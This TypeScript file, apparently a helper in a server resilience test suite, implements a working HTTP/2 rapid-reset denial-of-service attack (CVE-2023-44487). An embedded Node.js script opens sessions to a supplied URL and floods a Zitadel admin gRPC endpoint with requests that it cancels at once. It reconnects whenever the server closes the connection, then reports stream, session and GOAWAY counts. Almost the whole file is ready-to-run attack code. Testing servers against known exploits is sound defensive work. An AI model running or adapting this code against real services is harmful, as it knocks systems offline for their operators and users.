/**
 * A rapid-reset attacker (CVE-2023-44487) in a process of its own (see attacker-process.ts):
 * it opens streams and resets each at once, as fast as it can, reconnecting whenever the
 * server closes the connection, until its time is up.
 */
import { attackerProcess } from "./attacker-process.js";

const ATTACK = `
const http2 = require("node:http2");
const [url, localAddress, ms] = [process.argv[1], process.argv[2], Number(process.argv[3])];
const until = Date.now() + ms;
let streams = 0, sessions = 0, goaways = 0;
const pause = () => new Promise((resolve) => setImmediate(resolve));
(async () => {
  while (Date.now() < until) {
    sessions++;
    const session = http2.connect(url, { localAddress });
    session.on("error", () => {});
    session.on("goaway", () => goaways++);
    const closed = new Promise((resolve) => session.once("close", resolve));
    for (let i = 0; i < 1000 && !session.destroyed && !session.closed && Date.now() < until; i++) {
      const stream = session.request({ ":method": "POST", ":path": "/zitadel.admin.v1.AdminService/GetLoginPolicy", "content-type": "application/grpc" });
      stream.on("error", () => {});
      stream.close(http2.constants.NGHTTP2_CANCEL);
      streams++;
      if (i % 20 === 19) await pause();
    }
    session.destroy();
    await closed;
  }
  process.stdout.write(JSON.stringify({ streams, sessions, goaways }));
})();
`;

export interface AttackReport {
  readonly streams: number;
  readonly sessions: number;
  readonly goaways: number;
}

export function rapidResetAttack(url: string, localAddress: string, ms: number): Promise<AttackReport> {
  return attackerProcess<AttackReport>(ATTACK, [url, localAddress, String(ms)]);
}
